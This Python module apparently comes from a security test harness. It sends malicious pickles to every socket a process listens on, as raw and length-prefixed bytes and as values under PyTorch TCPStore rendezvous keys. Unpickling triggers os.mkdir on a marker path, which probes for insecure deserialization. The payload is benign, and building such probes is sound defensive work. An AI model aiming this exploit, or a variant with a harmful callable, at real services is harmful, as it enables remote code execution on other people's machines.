"""An attack on each socket that a process listens on."""

from __future__ import annotations

import contextlib
import os
import pickle
import socket
import struct
from collections.abc import Iterable
from datetime import timedelta
from pathlib import Path

import torch.distributed as dist

from genbench.system.sockets import Listener

_KEYS = ("genbench", "genbench-", "torch.rendezvous.", "complete", "arrived", "torchelastic/role_info/0")


class Command:
    """An object whose unpickling creates a file."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, tuple[str, int]]:
        return os.mkdir, (str(self.path), 0o700)


def attack(listener: Listener, keys: Iterable[str], mark: Path) -> None:
    """Send pickles that create `mark` to a listener: as raw bytes, and as values of a key-value store."""
    payload = pickle.dumps(Command(mark))
    for content in (payload, struct.pack("<q", len(payload)) + payload, b"GET / HTTP/1.0\r\n\r\n"):
        with contextlib.suppress(OSError), socket.create_connection((listener.address, listener.port), 1) as stream:
            stream.sendall(content)
    with contextlib.suppress(dist.DistError, RuntimeError):
        store = dist.TCPStore(listener.address, listener.port, is_master=False, timeout=timedelta(seconds=1))
        for key in (*_KEYS, *keys):
            for prefix in ("", "/worker/attempt_0/"):
                with contextlib.suppress(dist.DistError, RuntimeError):
                    store.set(prefix + key, payload)
